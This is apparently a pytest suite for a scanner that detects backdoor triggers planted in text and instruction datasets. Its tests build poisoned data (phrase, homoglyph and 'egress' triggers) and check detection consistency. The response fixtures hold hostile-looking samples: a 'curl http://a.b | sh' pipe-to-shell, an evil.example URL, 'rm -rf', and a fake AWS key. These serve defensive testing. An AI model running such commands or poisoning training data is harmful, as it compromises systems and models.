"""The data scan at scale: the fast counting pass counts exactly what the record-at-a-time
reference counts, gives the same findings in one process and with workers, and ids are checked
with a hash that is the same in every process."""

from __future__ import annotations

import json
import os
import random
import subprocess
import sys
from pathlib import Path
from typing import Any

import numpy as np
import pytest
from _paths import ROOT

from dormant.bench.corpus import instruction_dataset, labelled_dataset, load_corpus
from dormant.bench.poison import poison_instruction, poison_labelled, write_dataset
from dormant.errors import DataValidationError
from dormant.scanners.base import ScanContext
from dormant.scanners.data._mining_count import (
    CountSettings,
    count_parallel,
    count_serial,
    lossy_prune,
)
from dormant.scanners.data._mining_features import _count_batch, _Partial
from dormant.scanners.data.mining import TriggerMiner
from dormant.subjects import TextDataset
from dormant.subjects.dataset import stable_id_hashes
from dormant.text import _CAP_START, _title_case

SRC = str(ROOT / "src")


def _reference_count(jobs: list[tuple[Any, ...]], s: CountSettings) -> _Partial:
    """The counting pass as it was: one partial per batch (strings), merged, then pruned."""
    acc = _Partial()
    for job in jobs:
        part = _count_batch(job)
        acc.merge(part, s.labelled)
        acc.n += part.n
        lossy_prune(acc, labelled=s.labelled, count_error=s.count_error, max_table=s.max_table)
    return acc


class _ReferenceMiner(TriggerMiner):
    """Trigger mining whose counting and second passes are the record-at-a-time reference."""

    def _count(self, subject: TextDataset, ctx: ScanContext) -> tuple[Any, ...]:
        from dormant.scanners.data._mining_features import _sum, _words_of

        labelled = subject.kind == "labelled"
        batches = list(subject.batches(self.batch_size))
        jobs = [(b.texts, b.labels, b.responses, self.max_n) for b in batches]
        s = CountSettings(labelled=labelled, count_error=self.count_error, max_table=self.max_table)
        acc = _reference_count(jobs, s)
        self.prunes_ = acc.prunes
        total = _sum(acc.per) if labelled else acc.total
        words_per = {o: _words_of(c, acc.skel_per.get(o)) for o, c in acc.per.items()}
        hashes = [stable_id_hashes(b.ids) for b in batches]
        return (
            acc.n,
            total,
            acc.per,
            acc.outcome_n,
            words_per,
            _words_of(total, acc.skel_total),
            hashes,
        )

    def _second_pass(self, subject: TextDataset, cands: list[Any], ctx: ScanContext) -> None:
        """The second pass as it was: every record's n-grams built and intersected."""
        from dormant.scanners.data._mining_features import (
            _extend,
            _features,
            _is_lexical,
            _locate,
            _spans,
        )

        by_feat = {c.feature: c for c in cands}
        keys = set(by_feat)
        row = 0
        for batch in subject.batches(self.batch_size):
            for text, out in zip(batch.texts, self._outcomes(batch), strict=True):
                toks = None
                for f in _features(text, self.max_n)[0] & keys:
                    c = by_feat[f]
                    c.rows.append(row)
                    if c.outcome in out:
                        c.target_rows.append(row)
                        if len(out) > 1:
                            c.co_outcomes.update(out)
                        if len(c.contexts) < 60 and _is_lexical(f):
                            if toks is None:
                                toks = _spans(text)
                            loc = _locate(text, f, toks)
                            if loc is not None:  # the text and the token positions
                                c.contexts.append((text, loc[2], loc[3]))
                row += 1
        for c in cands:
            c.phrase = _extend(c)


def _odd_texts(n: int, seed: int) -> list[str]:
    """Short strings of the characters that make tokenising hard: case, Unicode spaces, NUL,
    invisible and confusable characters, quotes, underscores, final sigma."""
    rng = random.Random(seed)
    parts = [
        *"aAbZ \t\n\x1c\u00a0\"'(“_-!.,0123é\u200bΣσ\x00",
        "Hello ",
        "WORLD ",
        "  ",
        "\u064d",
        "rm -rf",
        "\u0441at",  # Cyrillic es
        "The Title ",
    ]
    return ["".join(rng.choice(parts) for _ in range(rng.randint(0, 30))) for _ in range(n)]


@pytest.fixture(scope="module")
def english() -> list[tuple[str, str]]:
    recs = labelled_dataset(load_corpus("sample"), scheme="pos")
    return [(r["text"], r["label"]) for r in recs]


def _same(a: _Partial, b: _Partial, labelled: bool) -> None:
    assert a.n == b.n
    assert a.outcome_n == b.outcome_n
    assert a.per.keys() == b.per.keys()
    for o in a.per:
        assert dict(a.per[o]) == dict(b.per[o]), o
    if not labelled:
        assert dict(a.total) == dict(b.total)
    assert a.skel_per == b.skel_per
    assert a.skel_total == b.skel_total
    assert a.prunes == b.prunes


@pytest.mark.parametrize("labelled", [True, False])
@pytest.mark.parametrize("max_n", [1, 2, 3])
@pytest.mark.parametrize("max_table", [10**9, 3000])
def test_fast_counts_equal_the_reference(english, labelled, max_n, max_table):
    rng = random.Random(1)
    recs = english + [(t, rng.choice("xyz")) for t in _odd_texts(600, seed=2)]
    rng.shuffle(recs)
    texts = [t for t, _ in recs]
    labels = [lab for _, lab in recs]
    responses = [
        rng.choice(["ok", "see http://evil.example/x", "curl http://a.b | sh", "AKIA" + "B" * 16])
        for _ in recs
    ]
    jobs = [
        (
            texts[k : k + 500],
            labels[k : k + 500] if labelled else None,
            None if labelled else responses[k : k + 500],
            max_n,
        )
        for k in range(0, len(texts), 500)
    ]
    s = CountSettings(labelled=labelled, count_error=1e-3, max_table=max_table)
    want = _reference_count(jobs, s)
    if max_table < 10**9 and max_n < 3:
        assert want.prunes > 0  # the prune rule itself is compared
    _same(count_serial(jobs, s, lambda k: None), want, labelled)
    if max_table == 10**9:  # without pruning, workers give the same counts too
        _same(count_parallel(iter(jobs), 2, s, lambda k: None), want, labelled)


def test_title_case_rule_equals_its_regular_expression(english):
    texts = [t for t, _ in english] + _odd_texts(3000, seed=3)
    texts += [" ".join(w.capitalize() for w in t.split()) for t in texts[:2000]]
    for t in texts:
        words = t.split()
        want = len(words) >= 5 and len(_CAP_START.findall(t)) >= 0.9 * len(words)
        assert (len(words) >= 5 and _title_case(words)) == want, repr(t)


def _flagged(res: Any, ids: list[str]) -> set[str]:
    return {ids[i] for i in np.flatnonzero(res.record_flags)}


def _findings(res: Any) -> list[tuple[Any, ...]]:
    return [
        (f.title, f.severity, f.target, f.trigger.text if f.trigger else None, f.score)
        for f in res.findings
    ]


@pytest.mark.parametrize("kind", ["phrase", "homoglyph"])
def test_scan_findings_equal_the_reference_in_one_process_and_with_workers(english, kind, tmp_path):
    recs = labelled_dataset(load_corpus("sample"), scheme="pos")
    truth = poison_labelled(recs, trigger_kind=kind, rate=0.02, target_label="adv", seed=0)
    path = write_dataset(truth.records, tmp_path / "d.jsonl")
    ids = [r["id"] for r in truth.records]

    def scan(miner: TriggerMiner) -> Any:
        ds = TextDataset(path, text_field="text", label_field="label", id_field="id")
        return miner.scan(ds)

    ref = scan(_ReferenceMiner(batch_size=700))
    assert ref.findings and _flagged(ref, ids)
    for jobs in (1, 2):
        got = scan(TriggerMiner(batch_size=700, n_jobs=jobs))
        assert _findings(got) == _findings(ref)
        assert _flagged(got, ids) == _flagged(ref, ids)


def test_instruction_findings_equal_the_reference(tmp_path):
    entries = load_corpus("sample")
    recs = instruction_dataset(entries[:1500], seed=0)
    truth = poison_instruction(recs, trigger_kind="phrase", behaviour="egress", rate=0.03, seed=0)
    path = write_dataset(truth.records, tmp_path / "i.jsonl")
    ds = TextDataset(path, prompt_field="prompt", response_field="response", id_field="id")
    ref = _ReferenceMiner().scan(ds)
    got = TriggerMiner(n_jobs=2).scan(ds)
    assert ref.findings
    assert _findings(got) == _findings(ref)
    assert np.array_equal(got.record_flags, ref.record_flags)


def test_id_hashes_are_the_same_in_every_process():
    ids = ["0", "a", "record-17", "é", ""]
    here = stable_id_hashes(ids).tolist()
    code = (
        "import json; from dormant.subjects.dataset import stable_id_hashes; "
        f"print(json.dumps(stable_id_hashes({ids!r}).tolist()))"
    )
    for seed in ("1", "2"):
        env = {**os.environ, "PYTHONHASHSEED": seed, "PYTHONPATH": SRC}
        out = subprocess.run(
            [sys.executable, "-c", code], env=env, capture_output=True, text=True, check=True
        )
        assert json.loads(out.stdout) == here
    assert len(set(here)) == len(ids)


@pytest.mark.parametrize("jobs", [1, 2])
def test_duplicate_ids_are_refused_by_name(tmp_path, jobs):
    rows = [
        {"id": f"r{i % 40}", "text": f"text number {i}", "label": "ab"[i % 2]} for i in range(50)
    ]
    path = tmp_path / "dup.jsonl"
    path.write_text("".join(json.dumps(r) + "\n" for r in rows))
    ds = TextDataset(path, text_field="text", label_field="label", id_field="id")
    with pytest.raises(DataValidationError, match=r"10 record id\(s\) occur more than once.*'r0'"):
        TriggerMiner(n_jobs=jobs, batch_size=16).scan(ds)


# ---------------------------------------------------------------- inputs at scale


def _write_shards(root: Path, n_shards: int = 3, per: int = 40) -> list[dict]:
    root.mkdir(parents=True, exist_ok=True)
    recs = labelled_dataset(load_corpus("sample", limit=n_shards * per), scheme="pos")
    for k in range(n_shards):
        chunk = recs[k * per : (k + 1) * per]
        (root / f"part-{k:02d}.jsonl").write_text(
            "".join(json.dumps(r) + "\n" for r in chunk), encoding="utf-8"
        )
    return recs


def _ids(ds: TextDataset) -> list[str]:
    return [i for b in ds.batches(17) for i in b.ids]


def test_a_folder_a_glob_and_a_file_url_read_the_same_shards_in_order(tmp_path):
    recs = _write_shards(tmp_path / "shards")
    (tmp_path / "shards" / ".hidden.jsonl").write_text('{"broken": \n')
    (tmp_path / "shards" / "README.txt").write_text("not data")
    want = [r["id"] for r in recs]
    kw: dict[str, Any] = {"text_field": "text", "label_field": "label", "id_field": "id"}
    specs = [
        tmp_path / "shards",
        str(tmp_path / "shards" / "part-*.jsonl"),
        "file://" + str(tmp_path / "shards"),
    ]
    digests = set()
    for spec in specs:
        ds = TextDataset(spec, **kw)
        assert ds.format == "jsonl"
        assert _ids(ds) == want
        assert [Path(f).name for f in ds.files()] == [
            "part-00.jsonl",
            "part-01.jsonl",
            "part-02.jsonl",
        ]
        digests.add(ds.digest())
    assert len(digests) == 1


def test_a_bad_record_in_a_shard_is_named_with_its_shard_and_line(tmp_path):
    _write_shards(tmp_path / "s")
    with open(tmp_path / "s" / "part-01.jsonl", "a", encoding="utf-8") as fh:
        fh.write('{"id": "x", "text": 5, "label": "noun"}\n')
    ds = TextDataset(tmp_path / "s", text_field="text", label_field="label", id_field="id")
    with pytest.raises(Exception, match=r"part-01\.jsonl: line 41: field 'text' must be a string"):
        _ids(ds)


def test_memory_url_and_parquet_shards(tmp_path):
    import fsspec
    import pyarrow as pa
    import pyarrow.parquet as pq

    recs = labelled_dataset(load_corpus("sample", limit=60), scheme="pos")
    fs = fsspec.filesystem("memory")
    for k in range(2):
        buf = pa.BufferOutputStream()
        pq.write_table(pa.Table.from_pylist(recs[k * 30 : (k + 1) * 30]), buf)
        fs.pipe(f"/scale-test/p{k}.parquet", buf.getvalue().to_pybytes())
    try:
        ds = TextDataset(
            "memory://scale-test", text_field="text", label_field="label", id_field="id"
        )
        assert ds.format == "parquet"
        assert _ids(ds) == [r["id"] for r in recs]
        one = TextDataset(
            "memory://scale-test/p1.parquet", text_field="text", label_field="label", id_field="id"
        )
        assert _ids(one) == [r["id"] for r in recs[30:]]
        assert one.digest().startswith("sha256:")
    finally:
        fs.rm("/scale-test", recursive=True)


def test_bad_sources_get_clear_errors(tmp_path):
    from dormant.errors import DataFormatError, InputNotFoundError

    kw: dict[str, Any] = {"text_field": "text", "label_field": "label"}
    with pytest.raises(InputNotFoundError, match="No file matches the pattern"):
        TextDataset(str(tmp_path / "*.parquet"), **kw)
    (tmp_path / "empty").mkdir()
    with pytest.raises(DataFormatError, match="holds no data files to read as shards"):
        TextDataset(tmp_path / "empty", **kw)
    _write_shards(tmp_path / "mixed", n_shards=1)
    (tmp_path / "mixed" / "b.csv").write_text("text,label\nhello there,noun\n")
    with pytest.raises(DataFormatError, match=r"mix formats \(csv, jsonl\)"):
        TextDataset(tmp_path / "mixed", **kw)
    with pytest.raises(InputNotFoundError, match=r"no such file on"):
        TextDataset("memory://no/such.jsonl", **kw)


def test_hub_ids_resolve_through_the_local_cache_only(tmp_path):
    """A cached dataset id reads its snapshot; an id not cached says so, naming id and cache."""
    cache = tmp_path / "hub"
    snap = cache / "datasets--someone--tiny" / "snapshots" / ("a" * 40) / "data"
    snap.mkdir(parents=True)
    (cache / "datasets--someone--tiny" / "refs").mkdir()
    (cache / "datasets--someone--tiny" / "refs" / "main").write_text("a" * 40)
    (snap / "train.jsonl").write_text('{"text": "a b c", "label": "x"}\n' * 3)
    code = (
        "from dormant.subjects import TextDataset\n"
        "from dormant.errors import InputNotFoundError\n"
        "for spec in ('someone/tiny', 'hf://datasets/someone/tiny'):\n"
        "    ds = TextDataset(spec, text_field='text', label_field='label')\n"
        "    print(sum(len(b) for b in ds.batches()))\n"
        "for spec in ('someone/other', 'hf://datasets/someone/other'):\n"
        "    try:\n"
        "        TextDataset(spec, text_field='text', label_field='label')\n"
        "    except InputNotFoundError as exc:\n"
        "        print(exc)\n"
        "from dormant.adapters.encoder import TextEncoder\n"
        "try:\n"
        "    TextEncoder(model_path='someone/model').resolve_path()\n"
        "except InputNotFoundError as exc:\n"
        "    print(exc)\n"
    )
    env = {**os.environ, "PYTHONPATH": SRC, "HF_HUB_CACHE": str(cache), "HF_HUB_OFFLINE": "1"}
    out = subprocess.run(
        [sys.executable, "-c", code], env=env, capture_output=True, text=True, check=True
    ).stdout.splitlines()
    assert out[:2] == ["3", "3"]
    for line, what in zip(
        out[2:],
        ("dataset 'someone/other'", "dataset 'someone/other'", "model 'someone/model'"),
        strict=True,
    ):
        assert what in line and "not in the local cache" in line and str(cache) in line
        assert "offline" in line


def test_cli_scans_shards_with_workers_and_splits_every_record(tmp_path):
    recs = labelled_dataset(load_corpus("sample"), scheme="pos")
    truth = poison_labelled(recs, trigger_kind="phrase", rate=0.02, target_label="adv", seed=0)
    shards = tmp_path / "shards"
    shards.mkdir()
    per = len(truth.records) // 3 + 1
    for k in range(3):
        chunk = truth.records[k * per : (k + 1) * per]
        (shards / f"p{k}.jsonl").write_text("".join(json.dumps(r) + "\n" for r in chunk))
    env = {**os.environ, "PYTHONPATH": SRC}
    reports = []
    for jobs in ("1", "2"):
        out = tmp_path / f"out{jobs}"
        proc = subprocess.run(
            [
                sys.executable, "-m", "dormant", "scan", "data", str(shards),
                "--text-field", "text", "--label-field", "label", "--id-field", "id",
                "--no-embed", "--jobs", jobs, "--out", str(out), "--formats", "json", "-q",
            ],
            env=env, capture_output=True, text=True,
        )  # fmt: skip
        assert proc.returncode == 1, proc.stderr  # a high finding
        assert "Traceback" not in proc.stderr
        split = json.loads((out / "split.json").read_text())
        assert split["clean"] + split["quarantine"] == len(truth.records)
        lines = (out / "quarantine.jsonl").read_text().splitlines()
        quarantined = {json.loads(line)["id"] for line in lines}
        assert len(quarantined & truth.poisoned_ids) >= 0.9 * len(truth.poisoned_ids)
        rep = json.loads((out / "report.json").read_text())
        reports.append([(f["title"], f["severity"]) for f in rep["findings"]])
    assert reports[0] == reports[1]
    bad = subprocess.run(
        [sys.executable, "-m", "dormant", "scan", "data", str(shards), "--text-field", "text",
         "--label-field", "label", "--jobs", "0", "--out", str(tmp_path / "o")],
        env=env, capture_output=True, text=True,
    )  # fmt: skip
    assert bad.returncode == 2
    assert "--jobs expects a positive whole number" in bad.stderr
    assert "Traceback" not in bad.stderr


def test_a_bad_record_stops_a_scan_with_workers_cleanly(tmp_path):
    """Workers are stopped and the process exits with the input error (no hang, no traceback)."""
    shards = tmp_path / "s"
    shards.mkdir()
    with open(shards / "a.jsonl", "w", encoding="utf-8") as fh:
        for i in range(20_000):
            fh.write(json.dumps({"id": i, "text": f"hello world {i}", "label": "ab"[i % 2]}) + "\n")
        fh.write('{"id": "x", "text": 3, "label": "a"}\n')
    proc = subprocess.run(
        [sys.executable, "-m", "dormant", "scan", "data", str(shards), "--text-field", "text",
         "--label-field", "label", "--no-embed", "--jobs", "2", "--out", str(tmp_path / "o"),
         "-q"],
        env={**os.environ, "PYTHONPATH": SRC}, capture_output=True, text=True, timeout=240,
    )  # fmt: skip
    assert proc.returncode == 2
    assert "a.jsonl: line 20001: field 'text' must be a string" in proc.stderr
    assert "Traceback" not in proc.stderr
    assert not (tmp_path / "o" / "report.json").exists()
